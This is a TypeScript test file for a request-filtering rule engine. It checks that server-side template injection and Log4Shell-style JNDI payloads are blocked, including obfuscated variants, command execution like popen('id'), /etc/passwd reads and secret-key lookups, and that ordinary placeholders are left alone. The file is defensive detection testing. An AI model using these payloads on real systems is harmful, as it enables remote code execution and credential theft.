import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { builtinOf, judgeBody, judgeHead, queryWith } from '../testing/judging.ts';

const rules = builtinOf();

function found(text: string): string[] {
  return judgeHead(rules, queryWith(text)).matches.map(({ ruleId, score }) => `${ruleId} ${score}`);
}

function scoreOf(text: string): number {
  return judgeHead(rules, queryWith(text)).score;
}

const D = '$';

describe('an expression that something evaluates', () => {
  const attacks = [
    ...[
      '{{7*7}}',
      `${D}{7*7}`,
      '#{7*7}',
      '*{7*7}',
      '<%= 7*7 %>',
      "{{7*'7'}}",
      `${D}{{7*7}}`,
      '@(7*7)',
      `[[${D}{7*7}]]`,
    ],
    ...[
      '{7*7}',
      '{{ 49 + 1 }}',
      '{%if 1%}a{%endif%}{{1+1}}',
      '~{7*7}',
      '{{=7*7}}',
      '$' + '{{<%[%\'"}}%\\.{{7*7}}',
      '#{ 3 * 3 }',
      '{{{7*7}}}',
    ],
    ...[
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      '{{config}}{{self.__dict__}}',
      "{{config.items()|attr('x')}}",
    ],
    ...[
      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
      '{{cycler.__init__.__globals__.os}}',
    ],
    ...[
      "{{['id']|filter('system')}}",
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      "{{['cat /etc/passwd']|map('system')}}",
    ],
    ...[
      "{{constructor.constructor('alert(1)')()}}",
      "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join}}",
    ],
    ...[
      '<#assign ex="freemarker.template.utility.Execute"?new()>$' + '{ex("id")}',
      "#set($x='')+#set($rt=$x.class.forName('java.lang.Runtime'))",
    ],
    ...[
      `${D}{T(java.lang.Runtime).getRuntime().exec('id')}`,
      `__${D}{new java.util.Scanner(T(java.lang.Runtime))}__::.x`,
    ],
    ...[
      "<%= system('id') %>",
      '<%= `id` %>',
      "<%= File.open('/etc/passwd').read %>",
      '{php}echo `id`;{/php}',
      "{$smarty.version}{system('id')}",
    ],
    ...[
      "#{''.getClass().forName('java.lang.Runtime')}",
      `${D}{class.getClassLoader()}`,
      '{{ get_user_file("/etc/passwd") }}',
    ],
    ...[
      `${D}{jndi:ldap://h/x}`,
      `${D}{${D}{lower:j}ndi:ldap://h}`,
      `${D}{${D}{::-j}${D}{::-n}di:x}`,
      `${D}{${D}{env:X:-j}ndi:x}`,
    ],
    ...[
      `${D}{JnDi:dns://h}`,
      `${D}{\\u006a\\u006e\\u0064\\u0069:ldap://h}`,
      `%24%7Bjndi:rmi://h%7D`,
      `${D}{j${D}{k8s:k5:-ND}i:ldap://h}`,
    ],
    ...[
      `${D}{${D}{upper:j}ndi:ldap:h}`,
      `${D}{${D}{date:'j'}${D}{date:'n'}di:x}`,
      `&#36;{jndi:ldap://h}`,
      `${D}{base64:JHtqbmRpOmxkYXA6Ly9ofQ==}`,
    ],
    ...[
      `${D}{env:AWS_SECRET_ACCESS_KEY}`,
      `${D}{script:javascript:java.lang.Runtime.getRuntime()}`,
      `${D}{dns:address|h}`,
      `${D}{url:UTF-8:http://h}`,
    ],
    ...[
      `${D}{@print(md5(1))}`,
      `${D}{print("x")}`,
      `{${D}{phpinfo()}}`,
      `${D}{exec(print(\`id\`))}`,
      `${D}{system('id')}`,
    ],
    ...[
      `${D}{#context['xwork.MethodAccessor.denyMethodExecution']=false}`,
      `%{(#_memberAccess['allowStaticMethodAccess']=true)}`,
    ],
    ...[
      "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
      "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))",
    ],
  ];
  for (const text of attacks) {
    it(`blocks ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) >= 5, found(text).join()));
  }

  it('blocks look-ups in headers and documents', () => {
    const lookup = `${D}{jndi:ldap://h/x}`;
    assert.ok(judgeHead(rules, '/', [['x-api-version', lookup]]).score >= 5);
    assert.ok(judgeHead(rules, '/', [['user-agent', `Mozilla/5.0 ${lookup}`]]).score >= 5);
    assert.ok(
      judgeBody(rules, JSON.stringify({ a: `${'long text '.repeat(40)}${lookup}` }), 'application/json')
        .score >= 5,
    );
  });

  const honest = [
    ...[
      `${D}{AUCTION_PRICE}`,
      `${D}{CACHEBUSTER}`,
      '{{user.name}}',
      '{{ title }}',
      `${D}{name}`,
      '{{first_name | capitalize}}',
      '#{order.id}',
    ],
    ...[
      '{{placement.id}}',
      '{"a":{"b":1}}',
      '[[1,2],[3,4]]',
      '{{',
      '}}',
      '%%CACHEBUSTER%%',
      '{device_id}',
      `\`${D}{a} and ${D}{b}\``,
      '{0}',
    ],
    ...[
      `${D}{window.location.href}`,
      '<%= title %>',
      '{% raw %}',
      `${D}{encodeURIComponent(x)}`,
      '@media(min-width:10px)',
      'f(x)={x^2}',
      '{1,2}',
    ],
    ...[
      '@(office)',
      '$100 {discount}',
      '#{color}',
      '*{box-sizing:border-box}',
      '#id{color:red}',
      'price {10-20}',
      '{{1}}',
      '[[Link]]',
      '%{GREEDYDATA:x}',
    ],
  ];
  for (const text of honest) {
    it(`leaves ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) < 5, found(text).join()));
  }
});
